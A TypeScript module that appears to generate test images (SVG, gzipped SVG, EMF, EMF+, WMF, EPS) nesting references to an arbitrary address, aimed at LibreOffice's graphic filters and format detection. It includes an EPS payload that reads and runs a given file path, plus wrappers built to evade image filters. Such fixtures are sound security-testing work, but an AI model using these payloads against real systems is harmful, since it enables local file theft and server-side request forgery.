/** Pictures that hold another picture, down to an SVG that names a file: what filters take for an image may be any of them. */
import { deflateSync, gzipSync } from "node:zlib";

const SVG_NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

function svgWith(inner: string, before = ""): Buffer {
  return Buffer.from(`${before}<svg ${SVG_NAMESPACES} width="200" height="200">${inner}</svg>`);
}

/** An SVG that shows the picture of an address. */
export function svgNaming(address: string): Buffer {
  return svgWith(`<image width="200" height="200" xlink:href="${address}"/>`);
}

/** SVG 1.1, 5.7, 7, 11.13, 13.3, 14, 15.18, 20.8: all that names something; LibreOffice's `svgio/source/svgreader`. */
export const SVGS: Readonly<Record<string, (address: string) => Uint8Array>> = {
  "an image by href alone": (at) => svgWith(`<image width="200" height="200" href="${at}"/>`),
  "an image in another prefix": (at) =>
    Buffer.from(
      `<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xlink" width="200" height="200"><s:image width="200" height="200" h:href="${at}"/></s:svg>`,
    ),
  "an image in a pattern": (at) =>
    svgWith(
      `<pattern id="p" width="1" height="1"><image width="200" height="200" xlink:href="${at}"/></pattern><rect width="200" height="200" fill="url(#p)"/>`,
    ),
  "an image in a mask, a symbol and a switch": (at) =>
    svgWith(
      `<symbol id="s"><switch><image width="200" height="200" xlink:href="${at}"/></switch></symbol><use xlink:href="#s"/>`,
    ),
  "a packed SVG": (at) => gzipSync(svgNaming(at)),
  "a packed SVG in data": (at) => svgNaming(`data:image/svg+xml;base64,${gzipSync(svgNaming(at)).toString("base64")}`),
  "an SVG in data without Base64": (at) =>
    svgNaming(`data:image/svg+xml,${encodeURIComponent(svgNaming(at).toString())}`),
  "an image by xml:base": (at) =>
    svgWith(`<g xml:base="${at.replace(/[^/]*$/, "")}"><image width="200" height="200" xlink:href="secret.png"/></g>`),
  "an address in a CDATA section's style": (at) =>
    svgWith(`<style><![CDATA[rect { fill: url("${at}") }]]></style><rect width="200" height="200"/>`),
  "an EMF+ that holds the SVG, in data": (at) =>
    svgNaming(`data:image/x-emf;base64,${Buffer.from(emfPlus(svgNaming(at))).toString("base64")}`),
};

function words(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeInt32LE(value | 0, index * 4);
  return bytes;
}

function padded(bytes: Uint8Array): Buffer {
  return Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
}

/** An EMF record (MS-EMF 2.3): type, size, content. */
function record(type: number, content: Uint8Array): Buffer {
  const body = padded(content);
  return Buffer.concat([words(type, body.length + 8), body]);
}

/** MS-EMF 2.3.4.2 and 2.3.4.1. */
function emf(...records: readonly Buffer[]): Uint8Array {
  const end = record(14, words(0, 16, 20));
  const size = 108 + records.reduce((sum, each) => sum + each.length, 0) + end.length;
  const bounds = [0, 0, 199, 199, 0, 0, 5000, 5000];
  const header = Buffer.concat([
    words(1, 108, ...bounds, 0x464d4520, 0x10000, size, records.length + 2, 1, 0, 0, 0, 1000, 1000, 300, 300, 0, 0, 0),
    words(300_000, 300_000),
  ]);
  return Buffer.concat([header, ...records, end]);
}

/** MS-EMFPLUS 2.3: type, flags, sizes, content. */
function plusRecord(type: number, flags: number, content: Uint8Array): Buffer {
  const body = padded(content);
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(flags, 2);
  return Buffer.concat([head, words(body.length + 12, body.length), body]);
}

const EMF_PLUS_VERSION = 0xdbc01002;
const [PLUS_HEADER, PLUS_END, PLUS_OBJECT, PLUS_DRAW_IMAGE, PLUS_DRAW_IMAGE_POINTS] = [
  0x4001, 0x4002, 0x4008, 0x401a, 0x401b,
];
const IMAGE_OBJECT = 0x0500;

function floats(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeFloatLE(value, index * 4);
  return bytes;
}

/** An EMF whose EMF+ records show an image object of these words and data. */
function emfWithImage(image: Uint8Array): Uint8Array {
  const rect = Buffer.concat([words(0, 2), floats(0, 0, 200, 200), floats(0, 0, 200, 200)]);
  const points = Buffer.concat([words(0, 2), floats(0, 0, 200, 200), words(3), floats(0, 0, 200, 0, 0, 200)]);
  const records = [
    plusRecord(PLUS_HEADER, 1, words(EMF_PLUS_VERSION, 1, 96, 96)),
    plusRecord(PLUS_OBJECT, IMAGE_OBJECT, image),
    plusRecord(PLUS_DRAW_IMAGE, 0, rect),
    plusRecord(PLUS_DRAW_IMAGE_POINTS, 0, points),
    plusRecord(PLUS_END, 0, Buffer.alloc(0)),
  ];
  const data = Buffer.concat([Buffer.from("EMF+"), ...records]);
  return emf(record(70, Buffer.concat([words(data.length), data])));
}

/** A "compressed bitmap" (MS-EMFPLUS 2.2.2.2): LibreOffice's `drawinglayer/source/tools/emfpimage.cxx` takes any picture. */
export function emfPlus(picture: Uint8Array): Uint8Array {
  return emfWithImage(Buffer.concat([words(EMF_PLUS_VERSION, 1, 0, 0, 0, 0, 1), padded(picture)]));
}

/** A metafile in place of a bitmap (MS-EMFPLUS 2.2.1.4, 2.2.2.27). */
function emfPlusMetafile(kind: number, picture: Uint8Array): Uint8Array {
  return emfWithImage(Buffer.concat([words(EMF_PLUS_VERSION, 2, kind, picture.length), padded(picture)]));
}

/** EMR_STRETCHDIBITS (MS-EMF 2.3.1.7) with BI_PNG: the picture as it is, in place of pixels. */
function emfDib(picture: Uint8Array): Uint8Array {
  const info = Buffer.concat([words(40, 200, 200), Buffer.from([1, 0, 0, 0]), words(5, picture.length, 0, 0, 0, 0)]);
  const fixed = [0, 0, 199, 199, 0, 0, 0, 0, 200, 200, 80, 40, 120, picture.length, 0, 0x00cc0020, 200, 200];
  return emf(record(81, Buffer.concat([words(...fixed), info, padded(picture)])));
}

/** EMR_COMMENT_MULTIFORMATS (MS-EMF 2.3.3.4.3): an EPS, or whatever calls itself so. */
function emfMultiformats(picture: Uint8Array): Uint8Array {
  const format = words(0x46535045, 1, picture.length, 60);
  const data = Buffer.concat([Buffer.from("GDIC"), words(0x40000004, 0, 0, 200, 200, 1), format, padded(picture)]);
  return emf(record(70, Buffer.concat([words(data.length), data])));
}

/** A WMF with META_ESCAPE_ENHANCED_METAFILE (MS-WMF 2.3.6.1), behind the placeable header. */
function wmfWithEmf(enhanced: Uint8Array): Uint8Array {
  const comment = Buffer.concat([
    words(0x43464d57, 1, 0x10000),
    Buffer.from([0, 0]),
    words(0, 1, enhanced.length, 0, enhanced.length),
    enhanced,
  ]);
  const escapeRecord = Buffer.concat([
    Buffer.from([0x0f, 0, comment.length & 0xff, (comment.length >> 8) & 0xff]),
    comment,
  ]);
  return wmf(0x0626, escapeRecord);
}

/** META_STRETCHDIB (MS-WMF 2.3.1.6) with BI_PNG. */
function wmfDib(picture: Uint8Array): Uint8Array {
  const info = Buffer.concat([words(40, 200, 200), Buffer.from([1, 0, 0, 0]), words(5, picture.length, 0, 0, 0, 0)]);
  const fixed = Buffer.alloc(22);
  for (const [index, value] of [0x20, 0xcc, 0, 200, 200, 0, 0, 200, 200, 0, 0].entries())
    fixed.writeUInt16LE(value, index * 2);
  return wmf(0x0f43, Buffer.concat([fixed, info, picture]));
}

function wmf(type: number, content: Uint8Array): Uint8Array {
  const body = content.length % 2 === 0 ? content : Buffer.concat([content, Buffer.alloc(1)]);
  const head = Buffer.alloc(6);
  head.writeUInt32LE(body.length / 2 + 3, 0);
  head.writeUInt16LE(type, 4);
  const end = Buffer.from([3, 0, 0, 0, 0, 0]);
  const placeable = Buffer.alloc(22);
  placeable.writeUInt32LE(0x9ac6cdd7, 0);
  placeable.writeInt16LE(1000, 10);
  placeable.writeInt16LE(1000, 12);
  placeable.writeUInt16LE(96, 14);
  let sum = 0;
  for (let at = 0; at < 20; at += 2) sum ^= placeable.readUInt16LE(at);
  placeable.writeUInt16LE(sum, 20);
  const header = Buffer.alloc(18);
  header.writeUInt16LE(1, 0);
  header.writeUInt16LE(9, 2);
  header.writeUInt16LE(0x0300, 4);
  header.writeUInt32LE((18 + 6 + body.length + end.length) / 2, 6);
  header.writeUInt32LE(body.length / 2 + 3, 12);
  return Buffer.concat([placeable, header, head, body, end]);
}

/** An EPS (its preview is made by a program that LibreOffice looks for) that reads a file. */
export function epsReading(path: string): Uint8Array {
  return Buffer.from(
    `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n(${path}) (r) file 1000 string readstring pop show\n(${path}) run\nshowpage\n%%EOF\n`,
  );
}

/** Pictures of other formats around an SVG that names a file, each with the code that unpacks it. */
export const WRAPPED: Readonly<Record<string, { readonly source: string; wrap(address: string): Uint8Array }>> = {
  "an EMF+ bitmap": {
    source: "drawinglayer/source/tools/emfpimage.cxx; MS-EMFPLUS 2.2.2.2",
    wrap: (at) => emfPlus(svgNaming(at)),
  },
  "an EMF+ bitmap, packed": {
    source: "drawinglayer/source/tools/emfpimage.cxx; MS-EMFPLUS 2.2.2.2",
    wrap: (at) => emfPlus(gzipSync(svgNaming(at))),
  },
  "an EMF+ in an EMF+ bitmap": {
    source: "drawinglayer/source/tools/emfpimage.cxx",
    wrap: (at) => emfPlus(emfPlus(svgNaming(at))),
  },
  "an EMF+ metafile": {
    source: "drawinglayer/source/tools/emfpimage.cxx; MS-EMFPLUS 2.2.2.27",
    wrap: (at) => emfPlusMetafile(4, emfPlus(svgNaming(at))),
  },
  "an EMF+ metafile that is an SVG": {
    source: "drawinglayer/source/tools/emfpimage.cxx; MS-EMFPLUS 2.2.2.27",
    wrap: (at) => emfPlusMetafile(3, svgNaming(at)),
  },
  "a bitmap of an EMF that calls itself PNG": {
    source: "emfio/source/reader/emfreader.cxx; MS-EMF 2.3.1.7",
    wrap: (at) => emfDib(svgNaming(at)),
  },
  "several formats of an EMF's comment": {
    source: "emfio/source/reader/emfreader.cxx; MS-EMF 2.3.3.4.3",
    wrap: (at) => emfMultiformats(svgNaming(at)),
  },
  "an EPS in an EMF's comment": {
    source: "emfio/source/reader/emfreader.cxx; vcl/source/filter/ieps/ieps.cxx",
    wrap: (at) => emfMultiformats(epsReading(at.replace("file://", ""))),
  },
  "an EMF+ in a WMF's escapes": {
    source: "emfio/source/reader/wmfreader.cxx; MS-WMF 2.3.6.1",
    wrap: (at) => wmfWithEmf(emfPlus(svgNaming(at))),
  },
  "a bitmap of a WMF that calls itself PNG": {
    source: "emfio/source/reader/wmfreader.cxx; MS-WMF 2.3.1.6",
    wrap: (at) => wmfDib(svgNaming(at)),
  },
  "an EPS that reads a file": {
    source: "vcl/source/filter/ieps/ieps.cxx",
    wrap: (at) => epsReading(at.replace("file://", "")),
  },
  "a packed EMF+": {
    source: "vcl/source/filter/graphicfilter.cxx (EMZ)",
    wrap: (at) => gzipSync(emfPlus(svgNaming(at))),
  },
  "an SVG behind bytes of another": {
    source: "vcl/source/filter/GraphicFormatDetector.cxx",
    wrap: (at) => Buffer.concat([Buffer.from("\n \t\n"), svgNaming(at)]),
  },
  "an SVG behind an unknown declaration": {
    source: "vcl/source/filter/GraphicFormatDetector.cxx",
    wrap: (at) => Buffer.concat([Buffer.from("<?x y?><!--x--><!DOCTYPE svg>"), svgNaming(at)]),
  },
  "an SVG behind packed nothing": {
    source: "vcl/source/filter/GraphicFormatDetector.cxx",
    wrap: (at) => Buffer.concat([gzipSync(""), gzipSync(svgNaming(at))]),
  },
  "an SVG packed without a header": {
    source: "vcl/source/filter/GraphicFormatDetector.cxx",
    wrap: (at) => deflateSync(svgNaming(at)),
  },
};
